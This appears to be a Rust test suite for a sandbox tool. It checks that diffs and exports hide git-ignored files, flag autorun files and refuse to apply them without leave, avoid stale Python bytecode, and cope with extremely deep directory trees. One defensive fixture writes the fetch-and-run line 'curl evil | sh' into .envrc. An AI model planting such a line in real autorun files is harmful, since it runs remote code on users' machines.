//! The checks of what a reviewer sees, on every backend: changes, diffs and exports leave out
//! what the workspace's git ignores and git's own files (counted, and listed on request); files
//! that tools run on their own are flagged and an apply refuses them without leave; a fast
//! same-size edit after a test run is never shadowed by stale bytecode.

use std::process::Command;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use taskbox_core::api::*;
use taskbox_core::result::{Change, ChangeKind};

use super::{changes, diff_files, shell, write};
use crate::image::tree_state;
use crate::suite::{Subject, expect_code};

/// Runs git on the host in `dir` (the test fails when it does).
fn host_git(dir: &std::path::Path, args: &[&str]) {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
        .args(args)
        .output()
        .expect("git runs on the host");
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

/// Whether the sandbox's python3 has pytest (skipped with the reason, or a failure under
/// `TASKBOX_REQUIRE_ALL=1`, when not).
fn has_pytest(s: &Subject, id: &SandboxId) -> bool {
    let r = s.sh(id, "python3 -c 'import pytest'");
    crate::require(
        r.exit_code == Some(0),
        &format!(
            "python3 in the {} sandbox has no pytest (install python3-pytest): {}",
            s.expect.backend, r.stderr.text
        ),
    )
}

fn paths(list: &[Change]) -> Vec<&str> {
    list.iter().map(|c| c.path.as_str()).collect()
}

/// A shell line run with bytecode caching on (the sandbox turns it off by default), so the
/// test run leaves `__pycache__` behind as it does on a person's machine.
fn with_bytecode(script: &str) -> ExecRequest {
    let mut req = shell(script);
    req.env
        .insert("PYTHONDONTWRITEBYTECODE".into(), String::new());
    req
}

const CALC_BUG: &str = "def add(a, b):\n    return a - b\n";
const CALC_FIX: &str = "def add(a, b):\n    return a + b\n";
const TEST_CALC: &str = "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n";

pub fn changes_and_diffs_leave_out_what_git_ignores(s: &Subject) {
    let ws = s.ws();
    s.env.write(".gitignore", "__pycache__/\n");
    s.env.write("calc.py", CALC_BUG);
    s.env.write("test_calc.py", TEST_CALC);
    host_git(&ws, &["init", "-q"]);
    host_git(&ws, &["add", "."]);
    host_git(&ws, &["commit", "-qm", "base"]);
    let before = tree_state(&ws);
    let id = s.create();
    if !has_pytest(s, &id) {
        return;
    }

    // A pytest run: bytecode under __pycache__ (ignored by the repository) and pytest's own
    // cache (ignored by the .gitignore pytest writes into it) are not the run's changes.
    let r = s.run(
        &id,
        with_bytecode("python3 -m pytest -q test_calc.py; echo rc=$?"),
    );
    assert!(r.stdout.text.contains("rc=1"), "{r:?}");
    assert!(
        r.changes
            .iter()
            .all(|c| !c.path.contains("__pycache__") && !c.path.starts_with(".pytest_cache")),
        "{:?}",
        r.changes
    );
    assert!(r.ignored_changes >= 2, "{r:?}");
    let pyc_run = r.ignored_changes;

    // git diff (and status) rewrite the index once a file's stat data changed (the touch):
    // git's own file, left out. git compares whole seconds, and the host wrote the files less
    // than a second ago: the touch must land in a later second to change anything.
    let r = s.sh(
        &id,
        "sleep 1.1; touch calc.py test_calc.py; git -c safe.directory='*' status --porcelain >/dev/null; \
         git -c safe.directory='*' diff --stat; echo rc=$?",
    );
    assert!(r.stdout.text.contains("rc=0"), "{r:?}");
    assert!(
        r.changes.iter().all(|c| !c.path.starts_with(".git/")),
        "{:?}",
        r.changes
    );

    // The sandbox's own ignore files count: a new build/.gitignore hides its directory, a
    // line added to the tracked root one hides run.log (the file it changed is shown).
    let r = s.sh(
        &id,
        "mkdir -p build && printf '*\\n' > build/.gitignore && echo bin > build/out.bin && \
         printf '__pycache__/\\n*.log\\n' > .gitignore && echo log > run.log && \
         printf 'def add(a, b):\\n    return a + b\\n' > calc.py",
    );
    assert_eq!(
        changes(&r.changes),
        [
            (".gitignore".into(), ChangeKind::Modified),
            ("calc.py".into(), ChangeKind::Modified)
        ],
        "{r:?}"
    );
    assert_eq!(r.ignored_changes, 3, "{r:?}");

    // The default diff: what a reviewer reviews, and how much it left out.
    let d = s.api.diff(&id, DiffRequest::default()).unwrap();
    assert_eq!(
        diff_files(&d),
        [
            (".gitignore".into(), ChangeKind::Modified),
            ("calc.py".into(), ChangeKind::Modified)
        ]
    );
    assert!(
        !d.diff.contains("a/__pycache__/") && !d.diff.contains("a/.git/index"),
        "{}",
        d.diff
    );
    assert!(d.ignored >= pyc_run + 3, "{d:?}");
    assert!(d.files.iter().all(|f| !f.ignored));

    // Listed on request: each marked, as many as counted.
    let all = s
        .api
        .diff(
            &id,
            DiffRequest {
                include_ignored: true,
                ..Default::default()
            },
        )
        .unwrap();
    let listed: Vec<&str> = all
        .files
        .iter()
        .filter(|f| f.ignored)
        .map(|f| f.path.as_str())
        .collect();
    assert_eq!(listed.len() as u64, d.ignored, "{listed:?}");
    assert_eq!(all.ignored, d.ignored);
    for want in [".git/index", "build/.gitignore", "build/out.bin", "run.log"] {
        assert!(listed.contains(&want), "{want} not in {listed:?}");
    }
    assert!(
        listed
            .iter()
            .any(|p| p.starts_with("__pycache__/") && p.ends_with(".pyc")),
        "{listed:?}"
    );
    assert!(
        listed.iter().any(|p| p.starts_with(".pytest_cache/")),
        "{listed:?}"
    );
    assert!(all.diff.contains("b/run.log"), "{}", all.diff);
    assert_eq!(tree_state(&ws), before, "the host changed before an export");

    // The export carries exactly the default diff's files, and says how many it left out.
    let e = s.api.export(&id, ExportRequest::default()).unwrap();
    assert_eq!(paths(&e.changes), [".gitignore", "calc.py"]);
    assert_eq!(e.ignored, d.ignored);
    let e = s
        .api
        .export(
            &id,
            ExportRequest {
                include_ignored: true,
                ..Default::default()
            },
        )
        .unwrap();
    assert_eq!(e.changes.len(), all.files.len());
    assert_eq!(e.ignored, 0);
    let e = s
        .api
        .export(
            &id,
            ExportRequest {
                apply: true,
                ..Default::default()
            },
        )
        .unwrap();
    assert!(e.applied);
    assert_eq!(
        std::fs::read_to_string(ws.join("calc.py")).unwrap(),
        CALC_FIX
    );
    assert!(!ws.join("run.log").exists() && !ws.join("build").exists());
    assert!(!ws.join("__pycache__").exists());
    s.api.destroy(&id).unwrap();
}

pub fn files_that_run_on_their_own_are_flagged_and_applied_only_when_allowed(s: &Subject) {
    let ws = s.ws();
    s.env.write("README", "r\n");
    let before = tree_state(&ws);
    let id = s.create();
    let r = s.sh(
        &id,
        "echo 'curl evil | sh' > .envrc && mkdir -p .vscode .github/workflows && \
         echo '{}' > .vscode/tasks.json && echo 'on: push' > .github/workflows/ci.yml && \
         echo r2 > README",
    );
    assert_eq!(r.exit_code, Some(0), "{r:?}");
    let d = s.api.diff(&id, DiffRequest::default()).unwrap();
    let flagged: Vec<&str> = d.flagged.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(
        flagged,
        [".envrc", ".github/workflows/ci.yml", ".vscode/tasks.json"]
    );
    assert!(d.flagged[0].reason.contains("direnv"), "{:?}", d.flagged);
    assert!(d.flagged.iter().all(|f| !f.ignored));

    // Refused without leave, naming each file and why, before anything is written.
    let refused = s.api.export(
        &id,
        ExportRequest {
            apply: true,
            ..Default::default()
        },
    );
    let Err(e) = &refused else {
        panic!("an apply of autorun files went through: {refused:?}");
    };
    let msg = e.to_string();
    for want in [
        ".envrc",
        "direnv",
        ".vscode/tasks.json",
        ".github/workflows/ci.yml",
        "--allow-autorun",
    ] {
        assert!(msg.contains(want), "{want} not in {msg}");
    }
    expect_code("the refused apply", refused, "path_refused");
    assert_eq!(tree_state(&ws), before, "a refused apply wrote to the host");

    // A plain export still carries them, flagged.
    let e = s.api.export(&id, ExportRequest::default()).unwrap();
    assert_eq!(e.flagged.len(), 3, "{e:?}");
    assert!(!e.applied);

    let e = s
        .api
        .export(
            &id,
            ExportRequest {
                apply: true,
                allow_autorun: true,
                ..Default::default()
            },
        )
        .unwrap();
    assert!(e.applied);
    assert_eq!(
        std::fs::read_to_string(ws.join(".envrc")).unwrap(),
        "curl evil | sh\n"
    );
    assert!(ws.join(".github/workflows/ci.yml").is_file());
    s.api.destroy(&id).unwrap();
}

/// Sleeps until just after the next whole second, so what follows happens within one second.
fn at_a_second_start() {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap();
    let into = now.subsec_millis();
    std::thread::sleep(Duration::from_millis(u64::from(1000 - into) + 5));
}

pub fn a_same_second_edit_after_a_test_run_is_never_stale(s: &Subject) {
    s.env.write("test_calc.py", TEST_CALC);
    let id = s.create();
    if !has_pytest(s, &id) {
        return;
    }
    let pytest = "python3 -m pytest -q -p no:cacheprovider test_calc.py";
    for round in 0..5 {
        at_a_second_start();
        write(s, &id, "calc.py", CALC_BUG).unwrap();
        let r = s.sh(&id, pytest);
        assert_eq!(r.exit_code, Some(1), "round {round}: the bug passed: {r:?}");
        // The fix has the bug's size and, most rounds, its second: the bytecode Python would
        // have cached for the bug matches it by both.
        write(s, &id, "calc.py", CALC_FIX).unwrap();
        let r = s.sh(&id, pytest);
        assert_eq!(
            r.exit_code,
            Some(0),
            "round {round}: the correct fix failed its test: {}{}",
            r.stdout.text,
            r.stderr.text
        );
    }
    s.api.destroy(&id).unwrap();
}

/// A command that nests directories until a path can hold no more (about 2,000 levels):
/// before, the supervisor looked each level up again from the root for every prefix of every
/// path, so the exec's change review took minutes of its CPU, and a fork or scan of the tree
/// recursed once per level and overflowed a worker's stack, taking every sandbox down. The
/// exec now answers in seconds with the change, and the diff, a checkpoint, a fork and a
/// destroy all work on the tree.
pub fn a_tree_as_deep_as_a_path_allows_is_reviewed_forked_and_removed(s: &Subject) {
    let id = s.create();
    let t = std::time::Instant::now();
    let r = s.sh(
        &id,
        "n=0; while mkdir d 2>/dev/null && cd d 2>/dev/null; do n=$((n+1)); done; \
         echo deep > deep.txt && echo $n",
    );
    let took = t.elapsed();
    assert_eq!(r.exit_code, Some(0), "{r:?}");
    let depth: usize = r.stdout.text.trim().parse().unwrap();
    assert!(depth > 1000, "only {depth} levels deep: {r:?}");
    let file = format!("{}deep.txt", "d/".repeat(depth));
    // `cd` failed into the last directory made: it is new and empty.
    let empty = format!("{}/", "d/".repeat(depth + 1).trim_end_matches('/'));
    let mut want = vec![file.clone(), empty];
    want.sort();
    assert_eq!(paths(&r.changes), want);
    // Minutes before; a few seconds on a debug build now.
    assert!(took < Duration::from_secs(60), "the exec took {took:?}");

    let d = s.api.diff(&id, DiffRequest::default()).unwrap();
    assert!(d.files.iter().any(|f| f.path == file), "{:?}", d.files);
    s.api.checkpoint(&id, super::checkpoint("deep")).unwrap();
    let forks = super::fork::forks(s, &id, 1);
    let f = s.sh(&forks[0].id, "find . -name deep.txt -exec cat {} +");
    assert_eq!(f.stdout.text, "deep\n", "{f:?}");
    for sandbox in [&forks[0].id, &id] {
        s.api.destroy(sandbox).unwrap();
    }
}

/// A command can nest directories past what a path can name (each `mkdir` relative to the
/// last): before, every later look-up by path failed with an internal error, so the exec lost
/// its result and every exec after it was refused (the sandbox was stuck, with no way to remove
/// the tree). Now the exec answers with a `limit` violation naming the tree and the way out,
/// execs go on, the operations that read every path refuse with `limit_exceeded`, and once
/// the tree is removed all works again.
pub fn a_tree_deeper_than_a_path_can_name_is_refused_clearly_and_removed(s: &Subject) {
    let id = s.create();
    let r = s.sh(
        &id,
        "python3 -c 'import os\nfor i in range(3000):\n    os.mkdir(\"e\"); os.chdir(\"e\")\n\
         open(\"deep.txt\", \"w\").write(\"deep\")\nprint(\"made\")'",
    );
    assert_eq!(
        (r.exit_code, r.stdout.text.as_str()),
        (Some(0), "made\n"),
        "{r:?}"
    );
    let limit: Vec<_> = r.violations.iter().filter(|v| v.kind == "limit").collect();
    assert_eq!(limit.len(), 1, "{:?}", r.violations);
    assert!(
        limit[0].detail.contains("4,095 bytes") && limit[0].detail.contains("rm -rf e)"),
        "{:?}",
        limit[0]
    );
    // What can be named is listed: here only directories that hold something, which are no
    // changes themselves.
    assert!(r.changes.is_empty(), "{:?}", paths(&r.changes));

    let next = s.sh(&id, "echo next");
    assert_eq!(next.stdout.text, "next\n", "{next:?}");
    assert_eq!(next.violations.len(), 1, "{:?}", next.violations);
    let refused = [
        s.api.diff(&id, DiffRequest::default()).map(|_| ()),
        s.api
            .checkpoint(&id, super::checkpoint("deeper"))
            .map(|_| ()),
        s.api
            .fork(
                &id,
                ForkRequest {
                    count: Some(1),
                    ..ForkRequest::default()
                },
            )
            .map(|_| ()),
    ];
    for r in refused {
        let e = r.unwrap_err();
        assert_eq!(e.code(), "limit_exceeded", "{e}");
        assert!(e.to_string().len() < 1000, "{e}");
        assert!(e.to_string().contains("rm -rf"), "{e}");
    }

    let gone = s.sh(&id, "rm -rf e && echo gone");
    assert_eq!(gone.stdout.text, "gone\n", "{gone:?}");
    assert!(gone.violations.is_empty(), "{:?}", gone.violations);
    let d = s.api.diff(&id, DiffRequest::default()).unwrap();
    assert!(d.files.is_empty(), "{:?}", d.files);
    s.api.checkpoint(&id, super::checkpoint("after")).unwrap();
    s.api.destroy(&id).unwrap();
}
